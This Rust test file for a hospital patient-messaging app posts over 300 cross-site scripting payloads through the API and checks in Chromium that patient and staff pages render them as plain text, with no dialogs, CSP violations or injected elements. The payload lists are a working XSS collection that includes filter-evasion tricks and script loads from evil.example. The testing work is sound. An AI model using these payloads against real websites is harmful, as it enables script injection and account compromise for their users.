//! Cross-site scripting, measured in the browser (issue 10, item 4): more than 300 payloads go
//! into what a patient writes — a thread's subject, a message, an attachment's name — through the
//! API, and Chromium renders them on the patient's pages and the hospital's. The page must show
//! each one as the text that was stored, and nothing may run: no dialog, no violation of the
//! Content-Security-Policy, no element or attribute made from the text.
//!
//! A probe installed before the page's own scripts (Chrome DevTools Protocol) counts calls of
//! `alert`, `confirm`, `prompt` and `print`, and every `securitypolicyviolation` event. The test
//! ends with a control that injects one payload as markup on purpose, and requires the probe and
//! the DOM check to see it, so a probe that sees nothing cannot pass by accident.

use std::collections::BTreeSet;
use std::time::Duration;

use fantoccini::Client;
use inzage_domain::messaging::{Department, NewReply, NewThread, SUBJECT_MAX};
use inzage_tests::documents::png;
use inzage_tests::TestApp;
use reqwest::multipart::{Form, Part};
use reqwest::StatusCode;

use crate::pwa::cdp;
use crate::{log_in, log_in_staff, log_out, with_browser};

/// AZ Voorbeeld (demo), where Margery writes.
const AZ: &str = "inzage-demo-az-voorbeeld";

/// What every payload tries to run.
const RUN: &str = "alert(1)";

/// Markup that would run [`RUN`] when the browser parses it as HTML, one per element and event
/// that fires without a person doing anything (or on the first hover or focus).
fn element_payloads() -> Vec<String> {
    let tags = [
        "img src=x",
        "image src=x",
        "svg",
        "body",
        "iframe",
        "video src=x",
        "audio src=x",
        "input autofocus",
        "details open",
        "select autofocus",
        "textarea autofocus",
        "marquee",
        "object data=x",
        "embed src=x",
        "style",
        "link rel=stylesheet href=x",
        "a href=#",
        "button autofocus",
        "div tabindex=0 autofocus",
        "math",
        "source src=x",
        "track src=x",
        "keygen autofocus",
        "frameset",
    ];
    let events = [
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onmouseover",
        "onanimationstart",
        "onbegin",
        "onpageshow",
        "onpointerenter",
        "onfocusin",
        "onbeforetoggle",
        "onloadstart",
    ];
    let mut out = Vec::new();
    for (i, tag) in tags.iter().enumerate() {
        let name = tag.split(' ').next().unwrap_or(tag);
        // Each tag with a handful of events, rotating so that every event meets several tags.
        for k in 0..6 {
            let event = events[(i + k * 5) % events.len()];
            let p = match k {
                0 => format!("<{tag} {event}={RUN}>"),
                1 => format!("<{tag} {event}=\"{RUN}\"></{name}>"),
                2 => format!("<{} {}='{RUN}'>", tag.to_uppercase(), event.to_uppercase()),
                3 => format!("<{}/{event}={RUN}>", tag.replace(' ', "/")),
                4 => format!("<{tag}\n{event}={RUN}>"),
                _ => format!("<{tag} {event}=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
            };
            out.push(p);
        }
    }
    out
}

/// Scripts and script-carrying URLs in every place HTML takes a URL.
fn url_payloads() -> Vec<String> {
    let urls = [
        format!("javascript:{RUN}"),
        format!("JaVaScRiPt:{RUN}"),
        format!("java\tscript:{RUN}"),
        format!("java&#x09;script:{RUN}"),
        format!("&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:{RUN}"),
        format!(" \u{1}javascript:{RUN}"),
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==".to_owned(),
        format!("data:text/html,<script>{RUN}</script>"),
        "vbscript:msgbox(1)".to_owned(),
        "//evil.example/x.js".to_owned(),
    ];
    let places = [
        "<a href=\"{}\">klik</a>",
        "<iframe src=\"{}\"></iframe>",
        "<form action=\"{}\"><button>ok</button></form>",
        "<button formaction=\"{}\">ok</button>",
        "<svg><a xlink:href=\"{}\"><text x=9 y=9>klik</text></a></svg>",
        "<object data=\"{}\"></object>",
        "<embed src=\"{}\">",
        "<meta http-equiv=\"refresh\" content=\"0;url={}\">",
        "<base href=\"{}\">",
        "<script src=\"{}\"></script>",
        "[klik]({})",
    ];
    let mut out = Vec::new();
    for url in &urls {
        for place in places {
            out.push(place.replace("{}", url));
        }
    }
    out
}

/// Payloads that first close the context a naive template would put the text in.
fn breakout_payloads() -> Vec<String> {
    let closers = [
        "\"",
        "'",
        "\">",
        "'>",
        "`",
        "</textarea>",
        "</title>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        "</noscript>",
        "</template>",
        "*/",
        "</select>",
        "</option>",
        "</xmp>",
        "</iframe>",
    ];
    let inners = [
        format!("<img src=x onerror={RUN}>"),
        format!("<script>{RUN}</script>"),
    ];
    closers
        .iter()
        .flat_map(|c| inners.iter().map(move |i| format!("{c}{i}")))
        .chain(
            // Attribute breakouts that add a handler without a new element.
            [
                "\" onmouseover=\"",
                "' onfocus='",
                "\" autofocus onfocus=\"",
            ]
            .iter()
            .map(|c| format!("x{c}{RUN}")),
        )
        .collect()
}

/// Encoded, mutated and template forms of the same attack: text that becomes markup only when
/// something decodes it twice, and parser quirks that sanitizers have missed.
fn quirk_payloads() -> Vec<String> {
    [
        "&lt;img src=x onerror=alert(1)&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "＜script＞alert(1)＜/script＞",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "<script>alert(1)//",
        "<script\n>alert(1)</script\n>",
        "<script/x>alert(1)</script>",
        "<script type=module>alert(1)</script>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "<script>setTimeout('alert(1)')</script>",
        "<script>[].constructor.constructor('alert(1)')()</script>",
        "<svg><script>alert&#40;1&#41;</script></svg>",
        "<svg><script href=data:,alert(1) />",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=onload to=alert(1) />",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\" />",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<template><img src=x onerror=alert(1)></template>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<img src=x onerror=alert&lpar;1&rpar;>",
        "<img src=x onerror=\"&#x61;lert(1)\">",
        "<img src=x onerror=\\u0061lert(1)>",
        "<img src=x:alert(1) onerror=eval(src)>",
        "<img src=x onerror=window['al'+'ert'](1)>",
        "<img src=x onerror=top[/al/.source+/ert/.source](1)>",
        "<img src=x onerror=import('data:text/javascript,alert(1)')>",
        "<img srcset=x onerror=alert(1)>",
        "<picture><source srcset=x><img onerror=alert(1)></picture>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"animation-name:x\" onanimationstart=alert(1)>x</div>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<style>*{background:url(x)}</style>",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
        "<link rel=import href=x>",
        "<base href=//evil.example/>",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<a href=javascript&colon;alert(1)>klik</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">klik</a>",
        "<a href=\"&#1;javascript:alert(1)\">klik</a>",
        "<a href=\"\\x0Bjavascript:alert(1)\">klik</a>",
        "<a href=javascript:alert(1) target=_blank rel=opener>klik</a>",
        "<a id=x tabindex=1 onfocus=alert(1)></a>",
        "<input onfocus=alert(1) autofocus>",
        "<input type=image src=x onerror=alert(1)>",
        "<input value=\"\" onfocus=alert(1) autofocus x=\"\">",
        "<textarea autofocus onfocus=alert(1)>x</textarea>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<keygen autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src onloadstart=alert(1)>",
        "<body onpageshow=alert(1)>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed code=\"javascript:alert(1)\">",
        "<isindex action=javascript:alert(1) type=image>",
        "<form><button formaction=javascript:alert(1)>ok",
        "<table background=javascript:alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<details ontoggle=alert(1) open>x</details>",
        "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
        "<frameset onload=alert(1)>",
        "<html onmouseover=alert(1)>",
        "<custom-element onfocus=alert(1) tabindex=1 autofocus>",
        "<x contenteditable onfocus=alert(1) autofocus>x",
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "${alert(1)}",
        "#{alert(1)}",
        "{{7*7}}",
        "<%= 7*7 %>",
        "{{{alert(1)}}}",
        "[[${alert(1)}]]",
        "![x](x\" onerror=\"alert(1))",
        "[klik](javascript:alert(1))",
        "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<https://evil.example/\" onmouseover=\"alert(1)>",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "'\"--></style></script><script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "\\'-alert(1)//",
        "</script><script>alert(1)</script>",
        "\u{202e}<img src=x onerror=alert(1)>",
        "<img src=x on\u{0}error=alert(1)>",
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "<img src=x onerror=alert(1)\u{2028}>",
        "<\u{fe64}script\u{fe65}alert(1)<\u{fe64}/script\u{fe65}",
        "<IMG SRC=\"jav&#x0D;ascript:alert(1);\">",
        "<IMG SRC=`javascript:alert(1)`>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
        "<IMG SRC=# onmouseover=\"alert(1)\">",
        "<IMG SRC= onmouseover=\"alert(1)\">",
        "<IMG onmouseover=\"alert(1)\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<IMG LOWSRC=\"javascript:alert(1)\">",
        "<BGSOUND SRC=\"javascript:alert(1)\">",
        "<BR SIZE=\"&{alert(1)}\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>x</br>",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
        "<XSS STYLE=\"behavior: url(xss.htc);\">",
        "<SCRIPT SRC=//evil.example/.j>",
        "<SCRIPT/XSS SRC=\"http://evil.example/xss.js\"></SCRIPT>",
        "<SCRIPT/SRC=\"http://evil.example/xss.js\"></SCRIPT>",
        "<SCRIPT a=\">\" SRC=\"http://evil.example/xss.js\"></SCRIPT>",
        "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect()
}

/// Every payload, distinct, in a fixed order.
fn payloads() -> Vec<String> {
    let mut seen = BTreeSet::new();
    element_payloads()
        .into_iter()
        .chain(url_payloads())
        .chain(breakout_payloads())
        .chain(quirk_payloads())
        .filter(|p| seen.insert(p.clone()))
        .collect()
}

/// Installed before the page's own scripts on every load: counts dialogs and CSP violations.
const PROBE: &str = "
  window.__xss = { dialogs: 0, csp: [] };
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    const original = window[name];
    window[name] = function () { window.__xss.dialogs += 1; };
    window[name].original = original;
  }
  document.addEventListener('securitypolicyviolation', e => {
    window.__xss.csp.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || ''));
  }, true);
";

/// What the page shows and holds, read in the page: the probe's counts; any element inside an
/// element that shows text (`texts`), which text must never become; anywhere in the page, an
/// event handler attribute or a script URL, which the app never writes; and the texts.
const INSPECT: &str = "
  const [texts] = arguments;
  const probe = window.__xss || { dialogs: -1, csp: ['the probe is missing'] };
  const made = [];
  const shown = Array.from(document.querySelectorAll(texts));
  for (const el of shown) {
    for (const inner of el.querySelectorAll('*')) {
      made.push(inner.tagName.toLowerCase() + ' inside ' + texts);
    }
  }
  for (const el of document.querySelectorAll('*')) {
    if (['iframe', 'object', 'embed', 'frame', 'frameset', 'base'].includes(el.localName)) {
      made.push(el.localName);
    }
    for (const attr of el.attributes) {
      const value = attr.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
      if (attr.name.toLowerCase().startsWith('on') || attr.name === 'srcdoc'
          || /^(javascript|vbscript|data:text)/.test(value)) {
        made.push(el.localName + '[' + attr.name + '=' + attr.value + ']');
      }
    }
  }
  return {
    dialogs: probe.dialogs,
    csp: probe.csp,
    made,
    texts: shown.map(e => e.textContent),
  };
";

#[derive(Debug, serde::Deserialize)]
struct Inspection {
    dialogs: i64,
    csp: Vec<String>,
    made: Vec<String>,
    texts: Vec<String>,
}

async fn inspect(client: &Client, texts: &str) -> anyhow::Result<Inspection> {
    let value = client.execute(INSPECT, vec![texts.into()]).await?;
    Ok(serde_json::from_value(value)?)
}

/// Waits until `css` shows at least `at_least` distinct texts, then checks the page: nothing
/// ran, nothing was made from text, and every text shown is one of `expected`, exactly as stored.
/// Returns how many texts it checked.
async fn check_page(
    client: &Client,
    page: &str,
    css: &str,
    expected: &[String],
    at_least: usize,
) -> anyhow::Result<usize> {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    let distinct = |s: &Inspection| s.texts.iter().collect::<BTreeSet<_>>().len();
    let seen = loop {
        let seen = inspect(client, css).await?;
        if distinct(&seen) >= at_least || tokio::time::Instant::now() > deadline {
            break seen;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    anyhow::ensure!(
        seen.dialogs == 0 && seen.csp.is_empty() && seen.made.is_empty(),
        "{page}: {} dialogs, CSP violations {:?}, made from text {:?}",
        seen.dialogs,
        seen.csp,
        seen.made
    );
    anyhow::ensure!(
        client.get_alert_text().await.is_err(),
        "{page}: a dialog is open"
    );
    let stored: BTreeSet<&String> = expected.iter().collect();
    let unknown: Vec<&String> = seen.texts.iter().filter(|t| !stored.contains(t)).collect();
    anyhow::ensure!(
        unknown.is_empty() && distinct(&seen) >= at_least,
        "{page}: {} distinct texts of {at_least} expected; {} differ from what was stored, \
         such as {:?}",
        distinct(&seen),
        unknown.len(),
        unknown.iter().take(3).collect::<Vec<_>>()
    );
    Ok(seen.texts.len())
}

/// [`check_page`] for a page that shows every one of `expected`.
async fn check_all(
    client: &Client,
    page: &str,
    css: &str,
    expected: &[String],
) -> anyhow::Result<usize> {
    let distinct = expected.iter().collect::<BTreeSet<_>>().len();
    check_page(client, page, css, expected, distinct).await
}

fn form(message: &impl serde::Serialize, attachment: &str) -> Form {
    Form::new()
        .text(
            "message",
            serde_json::to_string(message).unwrap_or_default(),
        )
        .part(
            "attachment",
            // A PNG, which the server accepts by content whatever the name says.
            Part::bytes(png(16, 16)).file_name(format!("{attachment}.png")),
        )
}

/// One stored thread as the API gives it back.
#[derive(Debug, serde::Deserialize)]
struct Stored {
    summary: StoredSummary,
    messages: Vec<StoredMessage>,
}

#[derive(Debug, serde::Deserialize)]
struct StoredSummary {
    id: String,
    subject: String,
}

#[derive(Debug, serde::Deserialize)]
struct StoredMessage {
    body: String,
    attachments: Vec<StoredAttachment>,
}

#[derive(Debug, serde::Deserialize)]
struct StoredAttachment {
    name: String,
}

/// Posts a message with a payload-named attachment; a name or text the server refuses (4xx)
/// is tried once more as text only. Returns the thread as stored.
async fn post_payload(
    patient: &reqwest::Client,
    url: &str,
    message: &impl serde::Serialize,
    payload: &str,
) -> anyhow::Result<Option<Stored>> {
    let res = patient
        .post(url)
        .multipart(form(message, payload))
        .send()
        .await?;
    let status = res.status();
    anyhow::ensure!(!status.is_server_error(), "{payload:?}: {status}");
    if status.is_success() {
        return Ok(Some(res.json().await?));
    }
    let text = Form::new().text(
        "message",
        serde_json::to_string(message).unwrap_or_default(),
    );
    let res = patient.post(url).multipart(text).send().await?;
    let status = res.status();
    anyhow::ensure!(!status.is_server_error(), "{payload:?}: {status}");
    Ok(if status.is_success() {
        Some(res.json().await?)
    } else {
        None
    })
}

/// How many threads the department's list shows, the latest first (`GET /staff/messages`).
const STAFF_THREADS_SHOWN: usize = 200;

/// Messages per long thread: the payloads as bodies and attachment names, read on a few pages.
const PER_THREAD: usize = 40;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn three_hundred_payloads_render_as_text_and_nothing_runs() -> anyhow::Result<()> {
    let payloads = payloads();
    assert!(payloads.len() >= 300, "{} payloads", payloads.len());
    with_browser(1280, 900, |client, base, app| async move {
        let (subjects, threads) = seed(&app, &payloads).await?;
        cdp(
            &client,
            "Page.addScriptToEvaluateOnNewDocument",
            serde_json::json!({ "source": PROBE }),
        )
        .await?;
        let mut checked = 0;

        // The patient's list of threads, then each long thread.
        log_in(&client, &base, &app, "margery").await?;
        client.goto(&format!("{base}/berichten")).await?;
        checked += check_all(&client, "the threads", "[data-testid=thread] a", &subjects).await?;
        for t in &threads {
            client
                .goto(&format!("{base}/berichten/{}", t.summary.id))
                .await?;
            checked += check_thread(&client, "a thread", t).await?;
        }
        log_out(&client).await?;

        // The hospital's side: the department's list and the same threads.
        log_in_staff(&client, &base, &app).await?;
        let line = "[data-testid=staff-threads] [data-testid=thread] a";
        let shown = subjects.len().min(STAFF_THREADS_SHOWN);
        checked += check_page(&client, "the department's threads", line, &subjects, shown).await?;
        for t in &threads {
            client
                .goto(&format!("{base}/backoffice/berichten/{}", t.summary.id))
                .await?;
            checked += check_thread(&client, "a thread, staff", t).await?;
        }
        println!(
            "{} payloads, {} texts checked on {} pages",
            payloads.len(),
            checked,
            2 * threads.len() + 1
        );

        // The control: the same checks see a payload that the page does turn into markup.
        client
            .execute(
                "document.querySelector('[data-testid=message-body]')\
                 .insertAdjacentHTML('beforeend', arguments[0]);",
                vec![format!("<img src=x onerror={RUN}>").into()],
            )
            .await?;
        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
        let seen = loop {
            let seen = inspect(&client, "[data-testid=message-body]").await?;
            if !seen.csp.is_empty() || tokio::time::Instant::now() > deadline {
                break seen;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        };
        assert_eq!(seen.csp.len(), 1, "the probe saw the violation: {seen:?}");
        assert!(
            seen.made.iter().any(|m| m.starts_with("img[onerror")),
            "the DOM check saw the handler: {:?}",
            seen.made
        );
        assert_eq!(seen.dialogs, 0, "the CSP stopped the handler");
        Ok(())
    })
    .await
}

/// Checks a thread's page: its subject, every message and every attachment name as stored.
async fn check_thread(client: &Client, page: &str, t: &Stored) -> anyhow::Result<usize> {
    let bodies: Vec<String> = t.messages.iter().map(|m| m.body.clone()).collect();
    let names: Vec<String> = t
        .messages
        .iter()
        .flat_map(|m| m.attachments.iter().map(|a| a.name.clone()))
        .collect();
    let mut n = check_all(client, page, "[data-testid=message-body]", &bodies).await?;
    n += check_all(client, page, "[data-testid=attachment]", &names).await?;
    n += check_all(
        client,
        page,
        "[data-testid=thread-subject]",
        std::slice::from_ref(&t.summary.subject),
    )
    .await?;
    Ok(n)
}

/// Stores the payloads as Margery: one thread per payload with it as subject and first message,
/// and long threads with every payload as a message and an attachment's name. Returns the
/// subjects as stored and the long threads.
async fn seed(app: &TestApp, payloads: &[String]) -> anyhow::Result<(Vec<String>, Vec<Stored>)> {
    let margery = app.id_of("margery");
    let patient = app.signed_in("margery").await?;
    let list = app.url(&format!("/api/v1/records/{margery}/messages"));
    let new_thread = |subject: &str, body: &str| NewThread {
        hospital: AZ.into(),
        department: Department::PatientQuestions,
        doctor: None,
        subject: subject.into(),
        body: body.into(),
    };
    let mut subjects = Vec::new();
    let mut refused = Vec::new();
    for p in payloads {
        let subject: String = p.chars().take(SUBJECT_MAX).collect();
        let res = patient
            .post(&list)
            .multipart(
                Form::new().text("message", serde_json::to_string(&new_thread(&subject, p))?),
            )
            .send()
            .await?;
        match res.status() {
            StatusCode::CREATED => subjects.push(res.json::<Stored>().await?.summary.subject),
            s if s.is_client_error() => refused.push(p.clone()),
            s => anyhow::bail!("{p:?}: {s}"),
        }
    }
    let mut threads = Vec::new();
    for (n, chunk) in payloads.chunks(PER_THREAD).enumerate() {
        let Some((first, rest)) = chunk.split_first() else {
            continue;
        };
        let mut stored = post_payload(
            &patient,
            &list,
            &new_thread(&format!("Lange draad {}", n + 1), first),
            first,
        )
        .await?
        .ok_or_else(|| anyhow::anyhow!("the first message of a long thread was refused"))?;
        let url = format!("{list}/{}", stored.summary.id);
        for p in rest {
            if let Some(t) = post_payload(&patient, &url, &NewReply { body: p.clone() }, p).await? {
                stored = t;
            }
        }
        subjects.push(stored.summary.subject.clone());
        threads.push(stored);
    }
    // Some payloads are refused as text (a control character, for one), the rest is stored.
    let messages: usize = threads.iter().map(|t| t.messages.len()).sum();
    let attachments: usize = threads
        .iter()
        .flat_map(|t| &t.messages)
        .map(|m| m.attachments.len())
        .sum();
    println!(
        "stored {} subjects, {messages} messages, {attachments} attachment names; refused as \
         subject {refused:?}",
        subjects.len()
    );
    anyhow::ensure!(
        subjects.len() >= 300 + threads.len() && messages >= 300 && attachments >= 300,
        "too few payloads were stored to test their rendering"
    );
    Ok((subjects, threads))
}
